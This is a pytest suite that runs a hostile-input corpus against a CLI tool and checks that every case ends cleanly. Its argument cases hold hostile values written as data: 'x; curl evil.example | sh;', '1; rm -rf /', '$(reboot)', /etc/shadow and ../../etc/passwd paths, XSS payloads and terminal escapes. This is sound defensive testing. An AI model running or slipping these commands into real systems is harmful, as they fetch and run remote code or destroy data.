"""The hostile-input corpus: every surface, one pinned line and exit code per input, no traceback, no hang.

Inputs (tests/hostile/corpus/, written by make_corpus.py) go through the command that
reads their format; files that cannot be committed (FIFOs, devices, directories,
100 MB files, symlinks to them) are made at test time for every file option; command-
line values (``--set``, option values, names and titles that reach records) are
listed in :data:`ARGV_CASES`. ``expected.json`` pins each case's exit code and stderr.

To add a case: add it to make_corpus.py (or here), then run
``python tests/hostile/test_corpus.py --pin`` and review the diff of expected.json.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
from harness import Outcome, once_per_session, run_all  # noqa: E402

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "corpus"
EXPECTED_FILE = HERE / "expected.json"
PROFILE = HERE.parent.parent / "docs" / "examples" / "profiles" / "payments-api.profile.yaml"
RECORDS = HERE.parent.parent / "docs" / "examples" / "records"
ESTATE = HERE.parent.parent / "docs" / "examples" / "estate" / "prod"

#: Exit codes the CLI documents; 70 (internal error) must never happen.
DOCUMENTED = {0, 1, 2, 3, 4}


def _surface_argv(surface: str, rel: str, name: str) -> list[str]:
    return {
        "profiles": ["profile", "validate", rel],
        "questionnaires": ["questions", "--questionnaire", rel, "--full", "--format", "json"],
        "topologies": ["graph", "--profile", "P.yaml", "--topology", rel],
        "inventories": ["portfolio", rel, "--summary-only", "--output-dir", f"out/{name}", "--date", "2026-01-01",
                        "-q"],
        "targets": ["measure", "--targets", rel, "--render-only", f"out/{name}"],
        "measurements": ["assess", "--profile", "P.yaml", "--measurements", rel, "--no-record", "--measure",
                         "never"],
        "records": ["records", "list", "--records-dir", f"recs/{name}"],
        "rules": ["rules", "lint", f"packs/{name}"],
    }[surface]


#: Every option that reads a file: (case prefix, argv with {F} for the file).
FILE_OPTIONS: dict[str, list[str]] = {
    "profile-validate": ["profile", "validate", "{F}"],
    "questions-questionnaire": ["questions", "--questionnaire", "{F}"],
    "assess-profile": ["assess", "--profile", "{F}", "--defaults", "--no-record", "--measure", "never"],
    "assess-targets": ["assess", "--profile", "P.yaml", "--targets", "{F}", "--no-record"],
    "assess-measurements": ["assess", "--profile", "P.yaml", "--measurements", "{F}", "--no-record"],
    "graph-topology": ["graph", "--profile", "P.yaml", "--topology", "{F}"],
    "graph-profile": ["graph", "--profile", "{F}"],
    "measure-targets": ["measure", "--targets", "{F}"],
    "portfolio-inventory": ["portfolio", "{F}", "--summary-only"],
    "portfolio-inventory-csv": ["portfolio", "{F}", "--summary-only"],
    "whatif-profile": ["whatif", "--profile", "{F}"],
    "records-check-profile": ["records", "check", "--records-dir", "recs/-none", "--profile", "{F}"],
    "observe-profile": ["observe", "--dump", "estate-prod", "--dry-run", "--profile", "{F}"],
    "measure-profile": ["measure", "--profile", "{F}"],
}


def _fifo(p: Path) -> None:
    os.mkfifo(p)


def _big(p: Path) -> None:
    with p.open("wb") as fh:  # 100 MB, sparse: made in no time, refused by the size cap before any read
        fh.truncate(100 * 1024 * 1024)


def _symlink_to_fifo(p: Path) -> None:
    os.mkfifo(p.with_name(p.name + ".target"))
    p.symlink_to(p.name + ".target")


#: Special files made for every file option: name -> maker (None: use the path as it is).
SPECIALS: dict[str, Callable[[Path], None] | None] = {
    "fifo": _fifo,
    "directory": lambda p: p.mkdir(),
    "big-100mb": _big,
    "symlink-to-fifo": _symlink_to_fifo,
    "missing": lambda p: None,
    "dev-zero": None,
    "dev-null": None,
}

#: Special files made inside a rule pack and a records folder: name -> maker.
IN_FOLDERS: dict[str, Callable[[Path], None]] = {
    "fifo": _fifo,
    "directory": lambda p: p.mkdir(),
    "big-100mb": _big,
    "dev-zero": lambda p: p.symlink_to("/dev/zero"),
}

_W = ["--set", "workload_name=w"]
_ASSESS = ["--defaults", "--no-record", "--measure", "never"]

#: Command-line values: case -> argv (``{N}`` is replaced by the case's own output name).
ARGV_CASES: dict[str, list[str]] = {
    **{f"set/{name}": ["assess", *_W, "--set", kv, *_ASSESS, "--profile-output", "out/{N}.yaml"] for name, kv in {
        "nan": "latency_p99_ms=nan", "inf": "latency_p99_ms=inf", "minus-inf": "latency_p99_ms=-inf",
        "huge-exponent": "latency_p99_ms=1e999", "huge-int": "physical_hosts=" + "9" * 500,
        "negative": "physical_hosts=-1", "zero": "physical_hosts=0", "float-for-int": "physical_hosts=2.5",
        "hex": "physical_hosts=0x10", "underscore-int": "physical_hosts=1_000", "unknown-key": "rm_rf=true",
        "key-escape": "\x1b]0;owned\x07=1", "key-dunder": "__class__=1", "empty-key": "=1", "no-equals": "novalue",
        "empty-value": "latency_p99_ms=", "newline-value": "workload_name=a\nb",
        "choice-unknown": "workload_class=root", "choice-case": "workload_class=TRADING",
        "bool-word": "jitter_sensitive=maybe", "list-junk": "compliance=[",
        "list-unknown": "compliance=none,evil", "long-value": "workload_name=" + "x" * 10000,
        "rtl-override": "workload_name=abc\u202edcba", "nul-byte": "workload_name=a\x00b",
        "control-chars": "workload_name=a\x1b[2J\x1b]0;t\x07b", "yaml-in-value": "workload_name={a: 1}",
        "priority-6": "priority_cost=6", "pct-101": "max_blast_radius_pct=101", "versions-11":
        "k8s_versions_in_production=11",
    }.items()},
    **{f"names/{name}": ["assess", "--set", f"workload_name={value}", *_ASSESS[:1], "--measure", "never",
                         "--records-dir", "recs/{N}", "--profile-output", "out/{N}.yaml", "--date", "2026-01-01"]
       for name, value in {
           "shell": "x; curl evil.example | sh;", "newline-heading": "x\n## Injected\n[a](javascript:alert(1))",
           "pipe-table": "a | b | c", "html": "<img src=x onerror=alert(1)>", "dotdot": "../../etc/passwd",
           "slash": "a/b\\c", "unicode": "zürich-東京", "escape": "\x1b[31mred\x1b[0m",
       }.items()},
    **{f"titles/{name}": ["assess", *_W, *_ASSESS[:1], "--measure", "never", "--records-dir", "recs/{N}",
                          "--profile-output", "out/{N}.yaml", "--date", "2026-01-01", "--title", value]
       for name, value in {
           "html": "<img src=x onerror=alert(1)>", "javascript-link": "[x](javascript:alert(1))",
           "escape": "\x1b]0;owned\x07title", "empty": "   ", "newline": "a\n# b",
       }.items()},
    "options/similarity-nan": ["portfolio", "inventories/ok.yaml", "--similarity", "nan", "--summary-only"],
    "options/similarity-inf": ["portfolio", "inventories/ok.yaml", "--similarity", "inf", "--summary-only"],
    "options/assess-budget-nan": ["assess", "--profile", "P.yaml", "--budget", "nan", "--no-record"],
    "options/assess-budget-inf": ["assess", "--profile", "P.yaml", "--budget", "inf", "--no-record"],
    "options/whatif-budget-nan": ["whatif", "--profile", "P.yaml", "--search-budget", "nan"],
    "options/whatif-budget-minus-inf": ["whatif", "--profile", "P.yaml", "--search-budget", "-inf"],
    "options/measure-budget-nan": ["measure", "--budget", "nan"],
    "options/date-bad": ["assess", *_W, "--defaults", "--measure", "never", "--date", "2026-02-30",
                         "--records-dir", "recs/date", "--profile-output", "out/date.yaml"],
    "options/date-injection": ["assess", *_W, "--defaults", "--measure", "never", "--date", "$(reboot)",
                               "--records-dir", "recs/date2", "--profile-output", "out/date2.yaml"],
    "records/number-injection": ["records", "show", "--records-dir", "recs/-none", "1; rm -rf /"],
    "records/number-huge": ["records", "show", "--records-dir", "recs/-none", "9" * 400],
    "records/dir-is-file": ["records", "list", "--records-dir", "P.yaml"],
    "records/dir-missing": ["records", "list", "--records-dir", "nothere"],
    "records/repair-missing": ["records", "repair", "--records-dir", "nothere"],
    "records/supersede-self": ["records", "supersede", "--records-dir", "recs/-none", "1", "1"],
    "questionnaire/redos-answer": ["assess", "--questionnaire", "questionnaires/redos-pattern-ok.yaml", "--set",
                                   "name=" + "a" * 150 + "!", "--no-record", "--measure", "never", "--profile-output",
                                   "out/redos.yaml"],
    "questionnaire/redos-answer-ok": ["profile", "validate", "--questionnaire",
                                      "questionnaires/redos-pattern-ok.yaml", "redos-profile.yaml"],
}


def _corpus_files() -> list[str]:
    return sorted(p.relative_to(CORPUS).as_posix() for p in CORPUS.glob("*/*") if p.is_file())


def _workspace(root: Path) -> list[tuple[str, Path, list[str]]]:
    """Copy the corpus to ``root``, make what cannot be committed; the jobs (case, cwd, argv)."""
    shutil.copytree(CORPUS, root, dirs_exist_ok=True)
    shutil.copy(PROFILE, root / "P.yaml")
    shutil.copytree(ESTATE, root / "estate-prod")
    (root / "recs" / "-none").mkdir(parents=True)
    (root / "out").mkdir()
    (root / "redos-profile.yaml").write_text(
        "advisor_profile: 1\nquestionnaire: {id: q, version: 1}\nanswers:\n  name: '" + "a" * 150 + "!'\n")
    jobs: list[tuple[str, Path, list[str]]] = []
    for rel in _corpus_files():
        surface, file = rel.split("/", 1)
        name = Path(file).stem
        if surface == "records":
            folder = root / "recs" / name
            folder.mkdir(parents=True)
            shutil.copy(root / rel, folder / "0001-case.json")
        if surface == "rules":
            pack = root / "packs" / name
            (pack / "consequences").mkdir(parents=True)
            (pack / "pack.yaml").write_text(f"advisor_rule_pack: 2\nname: {name}\nversion: 1\ndescription: t\n")
            shutil.copy(root / rel, pack / "consequences" / "low-latency.yaml")
        jobs.append((rel, root, _surface_argv(surface, rel, name)))
    specials = root / "special"
    specials.mkdir()
    for option, argv in FILE_OPTIONS.items():
        for kind, make in SPECIALS.items():
            if make is None:
                path = f"/dev/{kind.split('-', 1)[1]}"
            else:
                target = specials / f"{option}-{kind}{'.csv' if option.endswith('-csv') else '.yaml'}"
                make(target)
                path = target.relative_to(root).as_posix()
            jobs.append((f"special/{option}/{kind}", root, [a.replace("{F}", path) for a in argv]))
    # a rule file and a record file that are not regular files or are 100 MB: the formats no file option names
    for kind, make in IN_FOLDERS.items():
        pack = root / "packs" / f"with-{kind}"
        (pack / "consequences").mkdir(parents=True)
        (pack / "pack.yaml").write_text("advisor_rule_pack: 2\nname: f\nversion: 1\ndescription: t\n")
        make(pack / "consequences" / "low-latency.yaml")
        jobs.append((f"special/rules-lint/{kind}-rule-file", root, ["rules", "lint", f"packs/with-{kind}"]))
        recs = root / "recs" / f"with-{kind}"
        recs.mkdir()
        make(recs / "0001-a.json")
        jobs.append((f"special/records-list/{kind}-record", root, ["records", "list", "--records-dir",
                                                                   f"recs/with-{kind}"]))
    jobs += _folders(root)
    for case, argv in ARGV_CASES.items():
        n = case.replace("/", "-")
        jobs.append((case, root, [a.replace("{N}", n) for a in argv]))
    return [(case, cwd, _own_profile(root, case, argv)) for case, cwd, argv in jobs]


def _own_profile(root: Path, case: str, argv: list[str]) -> list[str]:
    """``assess --profile P.yaml`` edits the profile under a lock: each case gets its own copy (no waiting)."""
    if argv[0] != "assess" or "P.yaml" not in argv:
        return argv
    own = "profiles-" + case.replace("/", "-") + ".yaml"
    shutil.copy(root / "P.yaml", root / own)
    return [own if a == "P.yaml" else a for a in argv]


def _seed(folder: Path, numbers: tuple[int, ...] = (1, 2)) -> list[Path]:
    """A records folder with real records (the examples) numbered ``numbers``; their JSON paths."""
    folder.mkdir(parents=True)
    out = []
    for n in numbers:
        src = next(RECORDS.glob(f"{n:04d}-*.json"))
        shutil.copy(src, folder / src.name)
        shutil.copy(src.with_suffix(".md"), folder / src.with_suffix(".md").name)
        out.append(folder / src.name)
    return out


def _folders(root: Path) -> list[tuple[str, Path, list[str]]]:
    """Crafted records folders: what a crash, a hand or an attacker can leave there."""
    jobs: list[tuple[str, Path, list[str]]] = []

    def case(name: str, command: str, *extra: str) -> Path:
        folder = root / "folders" / name
        jobs.append((f"records/folder-{name}/{command}", root, ["records", command, "--records-dir", f"folders/{name}",
                                                                 *extra]))
        return folder

    for command in ("list", "check", "repair", "index"):
        js = _seed(case(f"md-is-dir-{command}", command))
        js[0].with_suffix(".md").unlink()
        js[0].with_suffix(".md").mkdir()
        js = _seed(case(f"readme-is-dir-{command}", command))
        (js[0].parent / "README.md").mkdir()
        js = _seed(case(f"journal-escape-{command}", command))
        entry = {"name": "../../escaped.md", "text": "x", "sha256": "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db"
                 "02258717921a4881"}
        (js[0].parent / ".advisor-journal.json").write_text(json.dumps({"advisor_journal": 1, "files": [entry]}))
        js = _seed(case(f"journal-garbage-{command}", command))
        (js[0].parent / ".advisor-journal.json").write_text("{not json")
        js = _seed(case(f"duplicate-number-{command}", command))
        shutil.copy(js[0], js[0].with_name(js[0].name.replace("0001-", "0001-copy-")))
        js = _seed(case(f"json-without-md-{command}", command))
        js[1].with_suffix(".md").unlink()
        js = _seed(case(f"md-without-json-{command}", command))
        js[1].unlink()
        js = _seed(case(f"stale-temporary-{command}", command))
        (js[0].parent / f".{js[0].name}.abcd1234.tmp").write_text("{half")
        js = _seed(case(f"escape-title-{command}", command))
        data = json.loads(js[0].read_text())
        data["title"] = "\x1b]0;owned\x07\x1b[2J<img src=x onerror=alert(1)>"
        js[0].write_text(json.dumps(data, indent=2))
        js = _seed(case(f"pack-usr-{command}", command))
        data = json.loads(js[0].read_text())
        data["rules"]["packs"][0]["path"] = "/usr"
        data["profile"]["path"] = "/etc/shadow"
        js[0].write_text(json.dumps(data, indent=2))
    return jobs


def _run(root: Path) -> dict[str, Outcome]:
    jobs = _workspace(root)
    outcomes = run_all([(cwd, argv) for _, cwd, argv in jobs])
    return {case: o for (case, _, _), o in zip(jobs, outcomes, strict=True)}


def _load_expected() -> dict[str, dict[str, object]]:
    return dict(json.loads(EXPECTED_FILE.read_text(encoding="utf-8")))


EXPECTED = _load_expected() if EXPECTED_FILE.exists() else {}


#: Running the whole corpus (once per session) takes a minute: its tests go first in a parallel run.
pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> dict[str, Outcome]:
    """The whole corpus, run once per session (xdist workers share one run)."""
    return once_per_session(request.config, tmp_path_factory, "hostile", _run)


def test_the_corpus_is_large_and_fully_pinned() -> None:
    cases = set(EXPECTED)
    assert len(cases) >= 300
    surfaces = {c.split("/")[0] for c in cases}
    assert {"profiles", "set", "rules", "topologies", "inventories", "names", "targets", "records",
            "measurements", "questionnaires", "special"} <= surfaces
    assert sum(c.startswith("inventories/csv-") for c in cases) >= 25  # CSV inventories, not only YAML ones
    assert sum(c.startswith("special/portfolio-inventory-csv/") for c in cases) == len(SPECIALS)


@pytest.mark.parametrize("case", sorted(EXPECTED))
def test_case(case: str, outcomes: dict[str, Outcome]) -> None:
    got, want = outcomes[case], EXPECTED[case]
    assert "Traceback" not in got.stderr + got.stdout
    assert got.returncode in DOCUMENTED, got.stderr
    assert "\x1b" not in got.stdout + got.stderr, "terminal control reached the output"
    assert (got.returncode, got.stderr) == (want["exit"], want["stderr"])
    if case.startswith("special/") and not case.endswith("/missing"):  # FIFO, device, folder, 100 MB: at once
        limit = _at_once(case, outcomes)
        assert got.seconds < limit or os.environ.get("CI_SLOW"), f"{case} took {got.seconds:.2f} s (limit {limit:.2f})"


def _at_once(case: str, outcomes: dict[str, Outcome]) -> float:
    """How long a special file's case may take: 1 s, or 3 times the median of its command's cases in this run.

    The cases of one command (``special/rules-lint/...``: a FIFO, a device, a folder, 100 MB, a missing file)
    start the same program, which takes what it takes on this machine now (``rules lint`` loads the whole pack,
    0.4 s when idle and twice that beside the test suite's other half); reading 100 MB or waiting on a FIFO
    instead of refusing it at once takes many times that. A fixed 1 s failed at 1.01 s on a loaded machine.
    """
    surface = case.rsplit("/", 1)[0] + "/"
    same = sorted(o.seconds for name, o in outcomes.items() if name.startswith(surface))
    return max(1.0, 3 * same[len(same) // 2])


def test_every_case_ran(outcomes: dict[str, Outcome]) -> None:
    assert sorted(outcomes) == sorted(EXPECTED), "run 'python tests/hostile/test_corpus.py --pin' and review"


def _pin() -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        results = _run(Path(tmp) / "w")
    EXPECTED_FILE.write_text(json.dumps({k: {"exit": o.returncode, "stderr": o.stderr}
                                         for k, o in sorted(results.items())}, indent=1, ensure_ascii=False) + "\n",
                             encoding="utf-8")
    slow = {k: round(o.seconds, 2) for k, o in results.items() if o.seconds > 1}
    print(f"pinned {len(results)} cases; slower than 1 s: {slow}")


if __name__ == "__main__":
    if sys.argv[1:] == ["--pin"]:
        _pin()
